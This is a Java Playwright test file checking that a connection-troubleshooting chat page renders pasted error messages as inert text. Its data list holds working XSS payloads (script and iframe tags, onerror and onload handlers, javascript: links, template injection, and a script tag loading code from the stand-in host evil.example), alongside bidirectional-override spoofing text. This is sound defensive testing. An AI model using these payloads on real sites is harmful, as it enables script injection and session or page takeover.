package org.conndoctor.page;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Strangers paste what they like. It stays text: dialogs, errors and foreign requests fail every test here. */
class HostileTextTest extends BrowserTests {

    private static final String MADE_OF_TEXT = """
            script, img, iframe, object, embed, style, link, base, form:not(.paste, .where-fields), audio, video,
            input:not(.where-fields > *),
            b[onclick], a[href^='javascript' i], a[href*='evil.example'], :is([onerror], [onload], [onclick])""";

    static List<String> hostileTexts() {
        return List.of(
                "<script>alert(1)</script> connect ECONNREFUSED 203.0.113.7:2345",
                "<img src=x onerror=alert(1)> Connection refused",
                "connect ECONNREFUSED ws://\"><svg onload=alert(1)>:2345/",
                "Failed to connect to <iframe/srcdoc='<script>alert(1)</script>'> port 80: Connection refused",
                "[refused](javascript:alert(1)) ![it](https://evil.example/x.png) <//evil.example> Connection refused",
                "connect ECONNREFUSED http://[x](javascript:alert(1)):2345",
                "Failed to connect to **`a`**<b>.example.com port 2345: Connection refused",
                "{{host}} {{constructor.constructor('alert(1)')()}} ${alert(1)} Connection timed out",
                "</textarea></div></main><style>* { display: none }</style> Cannot assign requested address",
                "My app cannot connect to <b onclick=alert(1)>the server</b><script src=//evil.example/x.js></script>",
                "<script>document.title = 'taken over'</script>");
    }

    @ParameterizedTest
    @MethodSource("hostileTexts")
    void aPastedTextStaysText(String text) {
        var chat = open("en-US");
        var title = chat.page.title();

        chat.send(text);
        chat.openAllCauses();

        assertThat(chat.saidText()).isEqualTo(text);
        assertThat(chat.by("turns").locator(MADE_OF_TEXT)).hasCount(0);
        assertThat(chat.by("said-text").locator("*:not(mark, mark > .unseen)")).hasCount(0);
        assertThat(chat.heading()).isVisible();
        assertThat(chat.text()).isVisible();
        assertThat(chat.page).hasTitle(title);
    }

    @Test
    void directionOverridesAreShownByNameAndTurnNothingAround() {
        var chat = open("en-US");

        chat.send("Failed to connect to \u202emoc.elpmaxe\u202c port 2345: \u2067Connection refused\u2069");
        chat.openAllCauses();

        assertThat(chat.saidText())
                .isEqualTo("Failed to connect to ‹U+202E›moc.elpmaxe‹U+202C› port 2345: "
                        + "‹U+2067›Connection refused‹U+2069›");
        assertThat(chat.by("turns").textContent()).doesNotContain("\u202e", "\u202c", "\u2067", "\u2069");
    }

    @Test
    void aLineOfSixtyKilobytesIsFoldedAndMakesThePageNoWider() {
        var chat = open("en-US");
        var text = "x".repeat(30_000) + " Connection refused " + "y".repeat(30_000);

        chat.send(text);
        assertThat(chat.by("mark")).isInViewport();
        assertThat(chat.by("said-text").boundingBox().height).isLessThan(400);
        assertThat(chat.overhang()).isZero();
        assertThat(chat.saidText()).isEqualTo(text);

        chat.by("fold").click();
        assertThat(chat.by("fold")).hasAttribute("aria-expanded", "true");
        assertThat(chat.by("said-text").boundingBox().height).isGreaterThan(2000);
        assertThat(chat.overhang()).isZero();
    }
}
